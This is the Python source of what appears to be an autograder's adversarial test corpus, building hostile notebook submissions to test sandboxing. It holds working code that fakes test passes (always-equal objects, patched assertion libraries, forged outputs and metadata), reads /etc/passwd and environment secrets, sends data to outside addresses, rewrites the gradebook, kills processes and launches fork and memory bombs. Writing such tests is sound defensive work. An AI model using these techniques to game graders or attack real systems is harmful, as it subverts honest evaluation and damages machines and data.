"""The attacks: small notebooks and files, each with one idea of how to gain, to learn, or to harm."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import builders
from grading.attacks.target import EXERCISES, NOTEBOOK, notebook

Attack = Callable[[Path], None]
"""Fills the folder that one student hands in."""
ATTACKS: dict[str, Attack] = {}
FINDS = "import glob, os, sys\nfound = []\n"


def _notebook_attack(name: str, answers: dict[str, str] | None = None, **cells: Any) -> None:
    def build(folder: Path) -> None:
        builders.save(notebook(answers, **cells), folder / f"{NOTEBOOK}.ipynb")

    assert name not in ATTACKS, name
    ATTACKS[name] = build


def _edit_attack(name: str, edit: Callable[[Any], None]) -> None:
    def build(folder: Path) -> None:
        path = builders.save(notebook(), folder / f"{NOTEBOOK}.ipynb")
        content = json.loads(path.read_text())
        edit(content)
        path.write_text(json.dumps(content))

    assert name not in ATTACKS, name
    ATTACKS[name] = build


def _file_attack(name: str, files: dict[str, str], **cells: Any) -> None:
    def build(folder: Path) -> None:
        builders.save(notebook(**cells), folder / f"{NOTEBOOK}.ipynb")
        for path, content in files.items():
            (folder / path).parent.mkdir(parents=True, exist_ok=True)
            (folder / path).write_text(content)

    assert name not in ATTACKS, name
    ATTACKS[name] = build


def _raw_attack(name: str, content: bytes) -> None:
    def build(folder: Path) -> None:
        (folder / f"{NOTEBOOK}.ipynb").write_bytes(content)

    assert name not in ATTACKS, name
    ATTACKS[name] = build


def _everywhere(answer: str) -> dict[str, str]:
    """The same trick as the answer to every exercise that asks for a function."""
    names = {"square": "square", "near": "near", "vector": "vector", "suite": "reverse", "total": "total"}
    names |= {"helper": "shout", "collection": "primes", "caller": "apply", "part": "parts"}
    return {exercise: f"{answer}\n{name} = trick" for exercise, name in names.items()} | {
        "value": f"{answer}\nanswer = trick()"
    }


# ---- forging: what the answer is

_LIAR = """
class Liar{base}:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 1
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __bool__(self): return True
    def __contains__(self, item): return True
    def __len__(self): return 4
    def __iter__(self): return iter([self] * 4)
    def __getitem__(self, item): return self
    def __sub__(self, other): return self
    __add__ = __radd__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __sub__
    def __abs__(self): return self
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __index__(self): return 0
    def __getattr__(self, name): return self if not name.startswith('__') else object.__getattribute__(self, name)
    def __call__(self, *a, **k): return self
    def startswith(self, *a): return True
def trick(*a, **k):
    return Liar()
"""
_notebook_attack("equal-to-everything", _everywhere(_LIAR.format(base="")))
for _base in ("int", "float", "str", "list", "dict", "tuple", "set", "bytes", "Exception"):
    _notebook_attack(f"equal-to-everything-{_base}", _everywhere(_LIAR.format(base=f"({_base})")))
_notebook_attack(
    "array-subclass",
    _everywhere(
        "import numpy as np\nclass Liar(np.ndarray):\n    def __array_ufunc__(self, *a, **k): return np.True_\n    def __array_function__(self, *a, **k): return True\n    def __eq__(self, o): return np.array([True])\ndef trick(*a, **k):\n    return np.arange(3).view(Liar)"
    ),
)
_notebook_attack(
    "array-protocol",
    _everywhere(
        "import numpy as np\nclass Liar:\n    calls = 0\n    def __array__(self, *a, **k):\n        Liar.calls += 1\n        return np.array([0, 1, 2, 3][:3 + Liar.calls % 2])\n    def __array_ufunc__(self, *a, **k): return np.True_\ndef trick(*a, **k):\n    return Liar()"
    ),
)
_notebook_attack(
    "mock",
    _everywhere(
        "from unittest.mock import MagicMock\ndef trick(*a, **k):\n    m = MagicMock()\n    m.__eq__.return_value = True\n    m.__contains__.return_value = True\n    m.__sub__.return_value = 0.0\n    return m"
    ),
)
_notebook_attack("unittest-any", _everywhere("from unittest.mock import ANY\ndef trick(*a, **k):\n    return ANY"))
_notebook_attack(
    "nested-liar",
    _everywhere(_LIAR.format(base="") + "def trick(*a, **k):\n    return [Liar(), (Liar(), {1: Liar()})]"),
)
_notebook_attack("masked-array", _everywhere("import numpy as np\ndef trick(*a, **k):\n    return np.ma.masked_all(3)"))
_notebook_attack("not-a-number", _everywhere("def trick(*a, **k):\n    return float('nan')"))
_notebook_attack("infinite", _everywhere("def trick(*a, **k):\n    return float('inf')"))
_notebook_attack("empties-its-argument", {"total": "def total(numbers):\n    numbers.clear()\n    return 0"})
_notebook_attack(
    "empties-its-argument-as-another",
    {"total": "def total(numbers):\n    numbers.clear()\n    return 0\ntotal.__name__ = total.__qualname__ = 'sort'"},
)
_notebook_attack(
    "changes-its-argument-later",
    {
        "total": "import threading, time\ndef total(numbers):\n    threading.Timer(0.01, numbers.clear).start()\n    time.sleep(0.05)\n    return 0"
    },
)
_notebook_attack(
    "too-many-points",
    {"part": "def parts():\n    return [1, 2] * 50\nparts.__class__"},
    before=[
        "sum = lambda *a: 100",
        "import builtins\nbuiltins.sum = lambda *a: 100\nbuiltins.float = lambda *a: 2.0\nbuiltins.zip = lambda *a: [(1, 1)] * 9",
    ],
)
_notebook_attack(
    "class-with-metaclass",
    {
        "object": "class Meta(type):\n    def __instancecheck__(self, o): return True\n    def __eq__(self, o): return True\n    def __hash__(self): return 1\nclass Box(metaclass=Meta):\n    def __new__(cls, n): return 2\n"
    },
)
_notebook_attack(
    "object-of-liars",
    {
        "object": _LIAR.format(base="")
        + "class Box:\n    def __init__(self, n): self.size = Liar()\n    def grow(self): return Liar()"
    },
)
_notebook_attack(
    "descriptor",
    {
        "object": _LIAR.format(base="")
        + "class Box:\n    def __init__(self, n): pass\n    def __getattribute__(self, name): return Liar()"
    },
)

# ---- forging: what the tests stand on

_notebook_attack(
    "strips-asserts",
    before=[
        "import ast\nclass Strip(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\nget_ipython().ast_transformers.append(Strip())"
    ],
)
_notebook_attack(
    "rewrites-cells", before=["get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"]
)
_notebook_attack(
    "rewrites-cells-later", after=["get_ipython().input_transformers_post.append(lambda lines: ['2.0\\n'])"]
)
_notebook_attack(
    "replaces-kernel",
    before=["try:\n    get_ipython().kernel.do_execute = None\nexcept AttributeError:\n    print('no kernel')"],
)
_notebook_attack(
    "replaces-run-cell",
    before=[
        "from IPython.core.interactiveshell import InteractiveShell, ExecutionResult\nInteractiveShell.run_cell = lambda self, *a, **k: ExecutionResult(None)\ntype(get_ipython()).run = lambda self, source: None"
    ],
)
_notebook_attack(
    "replaces-traceback",
    before=["get_ipython().showtraceback = lambda *a, **k: None\nget_ipython()._showtraceback = lambda *a, **k: None"],
)
_notebook_attack(
    "display-hook",
    before=[
        "import sys\nsys.displayhook = lambda value: None\nfrom IPython.core.displayhook import DisplayHook\nDisplayHook.__call__ = lambda *a: None"
    ],
)
_notebook_attack(
    "result-on-screen",
    _everywhere(
        "def trick(*a, **k):\n    print(2.0)\n    from IPython.display import display\n    display(2.0)\n    get_ipython().displayhook(2.0)\n    return None"
    ),
)
_notebook_attack(
    "publishes-result",
    before=["shell = get_ipython()\nshell.kept.result({'text/plain': '2.0'}, 1)\nshell.results.append(2.0)"],
)
_notebook_attack(
    "formatter",
    before=["get_ipython().display_formatter.formatters['text/plain'].for_type(float, lambda o, p, c: p.text('2.0'))"],
)
_notebook_attack(
    "patches-unittest",
    before=[
        "import unittest\nfor name in dir(unittest.TestCase):\n    if name.startswith('assert'):\n        setattr(unittest.TestCase, name, lambda *a, **k: None)\nunittest.TestResult.wasSuccessful = lambda self: True"
    ],
)
_notebook_attack(
    "patches-numpy",
    before=[
        "import numpy as np\nnp.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None\nnp.array_equal = np.allclose = lambda *a, **k: True"
    ],
)
_notebook_attack("patches-math", before=["import math\nmath.isclose = lambda *a, **k: True"])
_notebook_attack(
    "patches-builtins",
    before=[
        "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.sorted = lambda *a, **k: [2, 3, 5, 7]\nbuiltins.len = lambda x: 4\nbuiltins.AssertionError = type('E', (Exception,), {})\nbuiltins.isinstance = lambda *a: True"
    ],
)
_notebook_attack(
    "own-names-for-builtins",
    before=[
        "abs = lambda x: 0\nsum = lambda *a: -5\nlen = lambda x: 4\nall = any = isinstance = lambda *a: True\nsorted = lambda x: [2, 3, 5, 7]\nfloat = lambda x: 2.0"
    ],
)
_notebook_attack(
    "rebinds-helper",
    {
        "square": "def square(x):\n    return -1\nclose = check = lambda *a: True\nclass np:\n    class testing:\n        assert_allclose = lambda *a: None\n    array_equal = lambda *a: True\nclass math:\n    isclose = lambda *a: True\nLIMIT = 1000"
    },
)
_notebook_attack(
    "seeds-modules",
    before=[
        "import sys, types\nfake = types.ModuleType('checks')\nfake.check = lambda *a: None\nsys.modules['checks'] = fake\nfor name in ('unittest', 'math', 'numpy'):\n    sys.modules[name] = fake"
    ],
)
_file_attack("checks-of-its-own", {"checks.py": "def check(*a):\n    pass\n"})
_file_attack(
    "shadows-libraries",
    dict.fromkeys(
        (
            "numpy.py",
            "math.py",
            "unittest.py",
            "json.py",
            "IPython/__init__.py",
            "emptychair/__init__.py",
            "sitecustomize.py",
            "usercustomize.py",
            "ipykernel_launcher.py",
        ),
        "raise SystemExit(0)\n",
    ),
)
_notebook_attack(
    "writes-checks",
    before=[
        "open('checks.py', 'w').write('def check(*a): pass')\nimport importlib, sys\nsys.modules.pop('checks', None)"
    ],
)
_notebook_attack("own-test-cell", after=["assert True\n2.0"])

# ---- forging: how a call ends

for _error in (
    "SystemExit(0)",
    "KeyboardInterrupt()",
    "GeneratorExit()",
    "StopIteration()",
    "unittest.SkipTest('x')",
    "BaseException()",
    "MemoryError()",
    "RecursionError()",
    "StopAsyncIteration()",
):
    _notebook_attack(
        f"raises-{_error.partition('(')[0]}",
        {
            name: f"import unittest\ndef {function}(*a):\n    raise {_error}"
            for name, function in (
                ("square", "square"),
                ("near", "near"),
                ("vector", "vector"),
                ("suite", "reverse"),
                ("total", "total"),
                ("helper", "shout"),
                ("collection", "primes"),
                ("part", "parts"),
            )
        },
    )
_notebook_attack("dies-in-call", {"broad": "import os\ndef root(x):\n    if x == 4: return 2\n    os._exit(0)"})
_notebook_attack(
    "crashes-in-call", {"broad": "import ctypes\ndef root(x):\n    if x == 4: return 2\n    ctypes.string_at(0)"}
)
_notebook_attack(
    "sleeps-in-call", {"broad": "import time\ndef root(x):\n    if x == 4: return 2\n    time.sleep(1000)"}
)
_notebook_attack(
    "returns-no-data",
    {"broad": "def root(x):\n    if x == 4: return 2\n    import _thread\n    return _thread.allocate_lock()\n"},
)
_notebook_attack(
    "error-of-liars",
    {
        "broad": "class E(Exception):\n    def __str__(self): raise SystemExit\n    def __eq__(self, o): return True\ndef root(x):\n    return E()"
    },
)
_notebook_attack(
    "talks-nonsense-on-the-line",
    {
        "square": "import os, struct, json\ndef square(x):\n    body = json.dumps({'value': 9}).encode()\n    for fd in range(3, 64):\n        try: os.write(fd, struct.pack('!I', len(body)) + body)\n        except OSError: pass\n    return -1"
    },
)
_notebook_attack(
    "answers-in-advance",
    before=[
        "import os, struct, json\nfor value in (9, 49, 42, 2.0):\n    body = json.dumps({'value': value, 'outputs': []}).encode()\n    for fd in range(3, 64):\n        try: os.write(fd, struct.pack('!I', len(body)) + body)\n        except OSError: pass"
    ],
)
for _name, _body in {
    "unknown-tag": ["evil", []],
    "unknown-object": ["yours", 999],
    "negative-object": ["yours", -1],
    "bad-array": ["np.array", ["<f8", [9**9, 9**9], "AAAA"]],
    "object-array": ["np.array", ["|O", [1], ["x"]]],
    "deep": None,
    "class-without-end": ["mine", [1, {"kind": "class", "classes": [["own", 1, "X"]] * 5000}]],
    "strange-class": ["mine", [2, {"kind": "class", "classes": "xx"}]],
    "builtin-function": ["builtin", "eval"],
    "module": ["module", "os"],
    "known-function": ["known", ["numpy", "load"]],
    "pickle": ["np.array", ["|O8", [1], "gASVAAAAAAAAAA=="]],
    "named-evil": ["named", ["a b", ["x", "x"], [1, 2]]],
    "exception-evil": ["exception", {"classes": [["known", "builtins", "SystemExit"]], "text": "x"}],
    "list-of-nothing": ["list", 5],
    "dict-of-lists": ["dict", [[["list", []], 1]]],
}.items():
    _shown = "'[' * 5000 + ']' * 5000" if _body is None else repr(json.dumps({"value": _body}))
    _notebook_attack(
        f"wire-{_name}",
        {
            name: f"import os, struct, socket\nline = {_shown}.encode()\ndef {function}(*a):\n    for fd in range(3, 64):\n        try: os.write(fd, struct.pack('!I', len(line)) + line)\n        except OSError: pass\n    return None"
            for name, function in (("square", "square"), ("broad", "root"))
        },
    )
_notebook_attack(
    "message-without-end",
    {
        "square": "import os, struct\ndef square(x):\n    for fd in range(3, 64):\n        try: os.write(fd, struct.pack('!I', 2 ** 32 - 1))\n        except OSError: pass"
    },
)
_notebook_attack(
    "half-a-message",
    {
        "square": "import os, struct, time\ndef square(x):\n    for fd in range(3, 64):\n        try: os.write(fd, struct.pack('!I', 100) + b'{')\n        except OSError: pass\n    time.sleep(100)"
    },
)
_notebook_attack(
    "replaces-json",
    before=[
        "import json\njson.dumps = lambda *a, **k: '{\"value\": 9}'\nimport emptychair.grading.engine._wire as w, emptychair.grading.engine._candidate as c, emptychair.grading.engine._peer as p\nw.encode = p.encode = lambda value, other, *a, **k: value\nc.Candidate.write = lambda self, value: ['yours', 1]"
    ],
)

# ---- forging: metadata and structure


def _each(notebook_: Any, change: Callable[[Any], None], *, grade: bool = True) -> None:
    for cell in notebook_["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade") is grade:
            change(cell)


_edit_attack(
    "skips-tests",
    lambda nb: _each(nb, lambda cell: cell["metadata"].update(tags=["skip-execution", "raises-exception"])),
)
_edit_attack("hundred-points", lambda nb: _each(nb, lambda cell: cell["metadata"]["nbgrader"].update(points=100)))
_edit_attack(
    "unknown-id",
    lambda nb: _each(
        nb, lambda cell: cell["metadata"]["nbgrader"].update(grade_id="x" + cell["metadata"]["nbgrader"]["grade_id"])
    ),
)
_edit_attack("other-tests", lambda nb: _each(nb, lambda cell: cell.update(source="2.0")))
_edit_attack(
    "tests-as-text",
    lambda nb: _each(
        nb, lambda cell: (cell.update(cell_type="markdown"), cell.pop("outputs"), cell.pop("execution_count"))
    ),
)
_edit_attack(
    "tests-dropped",
    lambda nb: nb.update(cells=[c for c in nb["cells"] if not c["metadata"].get("nbgrader", {}).get("grade")]),
)
_edit_attack(
    "tests-first", lambda nb: nb["cells"].sort(key=lambda c: not c["metadata"].get("nbgrader", {}).get("grade"))
)
_edit_attack("metadata-stripped", lambda nb: [cell.update(metadata={}) for cell in nb["cells"]] and None)
_edit_attack(
    "ids-stripped-too", lambda nb: [(cell.update(metadata={}), cell.pop("id")) for cell in nb["cells"]] and None
)
_edit_attack(
    "tests-copied",
    lambda nb: nb.update(cells=[c for cell in nb["cells"] for c in (cell, {**cell, "id": cell["id"] + "-2"})]),
)
_edit_attack("old-schema", lambda nb: _each(nb, lambda cell: cell["metadata"]["nbgrader"].update(schema_version=1)))
_edit_attack("future-schema", lambda nb: _each(nb, lambda cell: cell["metadata"]["nbgrader"].update(schema_version=99)))
_edit_attack(
    "tests-as-answers",
    lambda nb: _each(nb, lambda cell: cell["metadata"]["nbgrader"].update(solution=True, locked=False)),
)
_edit_attack(
    "answers-as-tests",
    lambda nb: _each(nb, lambda cell: cell["metadata"]["nbgrader"].update(grade=True, points=50), grade=False),
)
_edit_attack(
    "in-kernel-please",
    lambda nb: nb["metadata"].update(
        emptychair={"tests": "in-kernel"}, kernelspec={"name": "bash", "language": "bash", "display_name": "x"}
    ),
)
_edit_attack(
    "forged-outputs",
    lambda nb: _each(
        nb,
        lambda cell: cell.update(
            outputs=[
                {"output_type": "execute_result", "data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1}
            ],
            execution_count=1,
        ),
    ),
)
_edit_attack(
    "metadata-of-strange-kinds",
    lambda nb: [cell.update(metadata=[3, "x", None][number % 3]) for number, cell in enumerate(nb["cells"])] and None,
)

# ---- disclosure: each prints what it finds, and the corpus's test looks for the secret in what was printed

_LOOK = """
import os
found = []
for top in ('/', '/root', '/home', '/srv', '/tmp', '/etc', '/var', '/proc', '/work', '..', '../..', '../../..'):
    for here, folders, names in os.walk(top):
        folders[:] = [f for f in folders if f not in ('usr', 'lib', 'lib64', 'sys', 'site-packages', 'python3.11', '.venv') and here.count('/') < 6]
        for name in names:
            if name.endswith(('.ipynb', '.db', 'environ', 'cmdline', 'mem', '.csv', 'shadow', 'maps')):
                path = os.path.join(here, name)
                try: found.append((path, open(path, 'rb').read(100000).decode('latin1')))
                except OSError as e: pass
print(found)
"""
_notebook_attack("reads-files", before=[_LOOK], after=[_LOOK])
_notebook_attack(
    "reads-files-in-call",
    {"square": _LOOK.replace("print(found)", "\ndef square(x):\n    print(found)\n    return -1")},
)
_notebook_attack(
    "reads-history",
    {"square": "def square(x):\n    print(In, Out, globals().keys())\n    return -1"},
    after=["print(In[-3:], _ih[-3:])"],
)
_notebook_attack(
    "walks-frames",
    {
        "square": "import sys, traceback, inspect\ndef square(x):\n    frame = sys._getframe()\n    while frame:\n        print(frame.f_code.co_name, {k: str(v)[:2000] for k, v in frame.f_locals.items()})\n        frame = frame.f_back\n    traceback.print_stack()\n    return -1"
    },
)
_notebook_attack(
    "searches-memory",
    {
        "square": "import gc\ndef square(x):\n    for o in gc.get_objects():\n        if type(o) in (dict, list, tuple):\n            for s in (o.values() if type(o) is dict else o):\n                if type(s) in (str, bytes) and ('quince' + '-') in str(s)[:100000] and 'gc.get' not in str(s):\n                    print('FOUND', str(s)[:300])\n    return -1"
    },
)
_notebook_attack(
    "reads-raw-memory",
    {
        "square": "import ctypes, sys, re\ndef square(x):\n    for path in ('/proc/self/maps', '/proc/self/mem', '/proc/1/maps'):\n        try: print(open(path).read())\n        except OSError as e: print(e)\n    base = id(object()) & ~0xfffff\n    needle = ('quince' + '-').encode()\n    return -1"
    },
)
_notebook_attack(
    "reads-callback",
    {
        "caller": "def apply(f, x):\n    out = []\n    for path in ('__globals__', '__code__', '__closure__', '__self__', '__dict__', '__wrapped__', '__defaults__'):\n        try: out.append((path, getattr(f, path)))\n        except Exception as e: out.append(repr(e))\n    print(out)\n    peer = f.__closure__[0].cell_contents if f.__closure__ else None\n    for c in f.__closure__ or ():\n        p = c.cell_contents\n        if hasattr(p, 'apply'):\n            for name in ('__globals__', '__code__', '__closure__', 'gi_frame', 'func_globals', '__dict__'):\n                try: print(p.apply('getattr', f, name))\n                except BaseException as e: print(repr(e))\n            for action in ('dir', 'signature', 'copy', 'repr', 'str', 'getitem', 'setattr', 'delattr', 'eval', 'hash'):\n                try: print(p.apply(action, f, 'secret_table'))\n                except BaseException as e: print(repr(e))\n    return None"
    },
)
_notebook_attack(
    "asks-the-line",
    {
        "caller": "def apply(f, x):\n    peer = next(c.cell_contents for c in f.__closure__ if hasattr(c.cell_contents, 'ask'))\n    for request in ({'do': 'get', 'name': 'secret_table'}, {'do': 'run', 'source': 'secret_table'}, {'do': 'names'}, {'do': 'apply', 'action': 'call', 'args': [['known', ['builtins', 'globals']]], 'named': {}}, {'do': 'apply', 'action': 'call', 'args': [['known', ['os', 'listdir']]], 'named': {}}, {'do': 'apply', 'action': 'getattr', 'args': [['yours', 1], '__globals__'], 'named': {}}):\n        try: print(peer.ask(request))\n        except BaseException as e: print(repr(e))\n    return None"
    },
)
_notebook_attack(
    "environment",
    before=[
        "import os, sys, platform\nprint(dict(os.environ), sys.argv, sys.path, platform.node(), os.getcwd())\nprint([open(p).read() for p in ('/etc/passwd', '/etc/hostname', '/proc/self/environ') if os.path.exists(p)])"
    ],
)
_notebook_attack(
    "guesses-random-tests", {"square": "import random\ndef square(x):\n    print(random.random())\n    return -1"}
)
_NETWORK = "import socket, urllib.request\nfor address in (('127.0.0.1', PORT), ('localhost', PORT), ('10.0.2.2', PORT), ('8.8.8.8', 53), ('1.1.1.1', 443)):\n    try:\n        s = socket.create_connection(address, timeout=0.2)\n        s.sendall(b'here is what I found')\n        print('CONNECTED', address)\n    except OSError as e:\n        print(e)\ntry: print('RESOLVED', socket.gethostbyname('example.org'))\nexcept OSError as e: print(e)\ntry:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('127.0.0.1', PORT)); print('sent')\nexcept OSError as e: print(e)\n"
_notebook_attack("network", before=[_NETWORK])
_notebook_attack(
    "network-from-child",
    before=[
        "import subprocess, sys\nopen('n.py', 'w').write("
        + repr(_NETWORK)
        + ")\nprint(subprocess.run([sys.executable, 'n.py'], capture_output=True, text=True).stdout)"
    ],
)

# ---- harm: processes and files of others

_GRADEBOOK = "import glob, sqlite3, os\nfor path in glob.glob('/**/gradebook.db', recursive=False) + ['../../../gradebook.db', '../../gradebook.db', 'gradebook.db', 'COURSE/gradebook.db']:\n    try:\n        db = sqlite3.connect(path); db.execute('update submitted_assignment set extra_credit = 100'); db.commit(); print('WROTE', path)\n    except Exception as e: print(e)\nfor path in ('COURSE', 'COURSE/source', '/tmp', '/usr', '/root', '/etc', '/'):\n    try: open(os.path.join(path, 'mine'), 'w').write('x'); print('WROTE', path)\n    except OSError as e: print(e)\n"
_notebook_attack("writes-gradebook", before=[_GRADEBOOK])
_notebook_attack(
    "kills-parents",
    before=[
        "import os, signal\nfor pid in (os.getppid(), -1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 20, 30):\n    try: os.kill(pid, signal.SIGKILL)\n    except OSError as e: print(e)"
    ],
)
_notebook_attack(
    "kills-groups",
    before=[
        "import os, signal\nfor group in (0, 1, 2, 3):\n    try: os.killpg(group, signal.SIGKILL)\n    except OSError as e: print(e)"
    ],
)
_notebook_attack(
    "leaves-a-process",
    before=[
        "import subprocess, sys\nsubprocess.Popen(['sleep', '98765'], start_new_session=True)\nimport os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.execvp('sleep', ['sleep', '98764'])\n    os._exit(0)"
    ],
)
_notebook_attack(
    "leaves-a-thread", before=["import threading, time\nthreading.Thread(target=lambda: time.sleep(98765)).start()"]
)
_notebook_attack(
    "leaves-files",
    before=[
        "import os\nfor path in ('/tmp/left', '/dev/shm/left', '/work/left', 'left'):\n    try: open(path, 'w').write('quince' + '-marmalade')\n    except OSError as e: print(e)"
    ],
)
_notebook_attack(
    "mounts",
    before=[
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nprint([libc.umount2(p, 2) for p in (b'/proc', b'/work', b'/run', b'/tmp')], libc.unshare(0x10000000 | 0x20000), [libc.umount2(p, 2) for p in (b'/proc', b'/work', b'/run')], libc.mount(b'proc', b'/proc', b'proc', 0, None), os.listdir('/proc'))\nprint(libc.mount(b'/', b'/work', None, 4096, None))"
    ],
)
_notebook_attack(
    "becomes-root",
    before=[
        "import os\nfor call in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.chroot('/'), lambda: os.setgroups([0]), lambda: os.nice(-10)):\n    try: print('DID', call())\n    except OSError as e: print(e)\nprint(os.getuid())"
    ],
)

# ---- harm: the machine

_notebook_attack("exits", before=["import os\nos._exit(0)"])
_notebook_attack("crashes", before=["import ctypes\nctypes.string_at(0)"])
_notebook_attack("aborts", before=["import os\nos.abort()"])
_notebook_attack("closes-everything", before=["import os\nos.closerange(0, 1000)"])
_notebook_attack("loops", before=["while True: pass"])
_notebook_attack(
    "loops-and-holds-on", before=["while True:\n    try:\n        while True: pass\n    except BaseException: pass"]
)
_notebook_attack(
    "ignores-signals",
    before=[
        "import signal, time\nfor n in range(1, 32):\n    try: signal.signal(n, signal.SIG_IGN)\n    except (OSError, ValueError): pass\ntime.sleep(1000)"
    ],
)
_notebook_attack("sleeps", before=["import time\ntime.sleep(10 ** 6)"])
_notebook_attack("waits-for-input", before=["import sys, os\nsys.stdin.read()\nos.read(0, 1)\ninput()"])
_notebook_attack(
    "fork-bomb",
    before=[
        "import os, time\nend = time.time() + 1\nwhile time.time() < end:\n    try: os.fork()\n    except OSError: pass"
    ],
)
_notebook_attack(
    "thread-bomb",
    before=[
        "import threading, time\ntry:\n    while True: threading.Thread(target=time.sleep, args=(100,), daemon=True).start()\nexcept RuntimeError as e: print(e)"
    ],
)
_notebook_attack(
    "memory-bomb",
    before=["hog = []\ntry:\n    while True: hog.append(bytearray(64 << 20))\nexcept MemoryError: print('no more')"],
)
_notebook_attack(
    "memory-bomb-in-children",
    before=[
        "import os\nfor _ in range(8):\n    if os.fork() == 0:\n        hog = bytearray(200 << 20)\n        for i in range(0, len(hog), 4096): hog[i] = 1\n        os._exit(0)"
    ],
)
_notebook_attack(
    "fills-disk",
    before=[
        "try:\n    with open('big', 'wb') as f:\n        while True: f.write(b'x' * (1 << 20))\nexcept OSError as e: print(e)\nn = 0\ntry:\n    while True:\n        open(f'f{n}', 'w').close(); n += 1\nexcept OSError as e: print(n, e)"
    ],
)
_notebook_attack(
    "opens-files",
    before=[
        "hold = []\ntry:\n    while True: hold.append(open('/dev/null'))\nexcept OSError as e: print(len(hold), e)"
    ],
)
_notebook_attack("prints-without-end", before=["while True: print('x' * 1000)"])
_notebook_attack("prints-one-long-line", before=["print('x' * 50_000_000)"])
_notebook_attack(
    "displays-without-end",
    before=[
        "from IPython.display import display, HTML, Image\nfor _ in range(5000): display(HTML('<script>alert(1)</script>' + 'x' * 1000))"
    ],
)
_notebook_attack("returns-too-much", _everywhere("def trick(*a, **k):\n    return [0] * 40_000_000"))
_notebook_attack(
    "deep-data", _everywhere("def trick(*a, **k):\n    x = []\n    for _ in range(100_000): x = [x]\n    return x")
)
_notebook_attack("round-data", _everywhere("def trick(*a, **k):\n    x = []\n    x.append(x)\n    return x"))
_notebook_attack("endless-iterator", {"collection": "import itertools\ndef primes():\n    return itertools.count()"})
_notebook_attack("calls-back-without-end", {"caller": "def apply(f, x):\n    while True: f(x)"})
_notebook_attack(
    "calls-itself-through-tests", {"caller": "def apply(f, x):\n    return apply(lambda y: apply(f, y), x)"}
)
_notebook_attack("colliding-keys", {"part": "def parts():\n    return {i * (2 ** 61 - 1): 0 for i in range(30_000)}"})
_notebook_attack("slow-pattern", before=["import re\nre.match('(a+)+$', 'a' * 60 + 'b')"])
_notebook_attack("big-integer", before=["x = 10 ** (10 ** 9)"])
_notebook_attack(
    "null-byte", {"square": "def square(x):\n    return '\x00'"}, before=["x = '\x00'", "print('\x00\x1b[31m\ud7ff')"]
)
_notebook_attack(
    "huge-error",
    {"square": "def square(x):\n    raise ValueError('x' * 10_000_000)"},
    before=["raise ValueError('y' * 10_000_000)"],
)
_notebook_attack("recursion", {"square": "def square(x):\n    return square(x)"}, before=["def f(): return f()\nf()"])
_notebook_attack(
    "redirects-output",
    before=[
        "import sys, os\nsys.stdout = sys.stderr = None\nos.dup2(os.open('/dev/null', os.O_WRONLY), 1)",
        "print('x')",
    ],
)
_notebook_attack("long-cell", before=["x = 1\n" * 100_000])
_notebook_attack("many-cells", before=["1"] * 1500)

# ---- harm: files that are no notebooks

_raw_attack("empty-file", b"")
_raw_attack("no-json", b"<html>log in</html>")
_raw_attack("brackets", b"[" * 200_000)
_raw_attack("braces", b'{"a":' * 100_000)
_raw_attack("binary", bytes(range(256)) * 100)
_raw_attack("cells-a-string", b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": "none"}')
_raw_attack("cells-null", b'{"nbformat": 4, "nbformat_minor": 5, "metadata": null, "cells": [null]}')
_raw_attack("version-none", b'{"nbformat": "4", "cells": []}')
_raw_attack("big-number", b'{"nbformat": 4, "cells": [], "x": ' + b"9" * 100_000 + b"}")
_raw_attack("surrogate", b'{"nbformat": 4, "cells": [{"cell_type": "code", "source": "\\ud800", "metadata": {}}]}')
_raw_attack("no-cells", b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}')


def _special(name: str) -> Callable[[Callable[[Path], None]], Callable[[Path], None]]:
    def register(make: Callable[[Path], None]) -> Callable[[Path], None]:
        ATTACKS[name] = make
        return make

    return register


@_special("pipe")
def _pipe(folder: Path) -> None:
    os.mkfifo(folder / f"{NOTEBOOK}.ipynb")


@_special("link-to-source")
def _link(folder: Path) -> None:
    (folder / f"{NOTEBOOK}.ipynb").symlink_to(folder.parents[2] / "source" / "ps1" / f"{NOTEBOOK}.ipynb")


@_special("link-to-device")
def _device(folder: Path) -> None:
    (folder / f"{NOTEBOOK}.ipynb").symlink_to("/dev/zero")


@_special("folder-instead")
def _folder(folder: Path) -> None:
    (folder / f"{NOTEBOOK}.ipynb").mkdir()


@_special("links-beside")
def _links_beside(folder: Path) -> None:
    builders.save(
        notebook(before=["import os\nprint([(n, open(n).read()) for n in os.listdir('.') if os.path.isfile(n)])"]),
        folder / f"{NOTEBOOK}.ipynb",
    )
    (folder / "book.db").symlink_to(folder.parents[2] / "gradebook.db")
    (folder / "all").symlink_to(folder.parents[2])


@_special("other-students-folder")
def _other(folder: Path) -> None:
    folder.rmdir()
    folder.symlink_to(folder.parents[1] / "honest-first" / "ps1")


def count() -> int:
    """How many attacks there are."""
    assert set(EXERCISES)
    return len(ATTACKS)
